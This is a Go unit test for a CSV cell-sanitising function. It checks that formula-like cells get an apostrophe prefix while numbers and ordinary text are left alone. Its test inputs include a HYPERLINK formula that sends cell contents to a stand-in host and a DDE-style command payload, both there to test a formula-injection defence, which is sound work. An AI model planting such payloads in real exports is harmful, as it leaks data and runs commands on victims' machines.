package csvcell_test

import (
	"testing"

	"github.com/tollgate/tollgate/backend/internal/csvcell"
)

// Text cells a spreadsheet would run get an apostrophe; plain numbers,
// signed or not, and ordinary text are left alone.
func TestTextNeutralisesFormulasButNotNumbers(t *testing.T) {
	for in, want := range map[string]string{
		`=HYPERLINK("http://x.example/?"&A1,"click")`: `'=HYPERLINK("http://x.example/?"&A1,"click")`,
		"+SUM(A1:A9)":      "'+SUM(A1:A9)",
		"-2+3":             "'-2+3",
		"@cmd|' /C calc'!": "'@cmd|' /C calc'!",
		"\t=1+1":           "'\t=1+1",
		"\r=1+1":           "'\r=1+1",
		"-":                "'-",
		"+441134960000":    "+441134960000",
		"-1.50":            "-1.50",
		"-0.0153":          "-0.0153",
		"441134960000":     "441134960000",
		"UK Mobile - O2":   "UK Mobile - O2",
		"a=b":              "a=b",
		"":                 "",
		"+44 113 496":      "'+44 113 496",
		"-1.":              "'-1.",
	} {
		if got := csvcell.Text(in); got != want {
			t.Errorf("Text(%q) = %q, want %q", in, got, want)
		}
	}
}
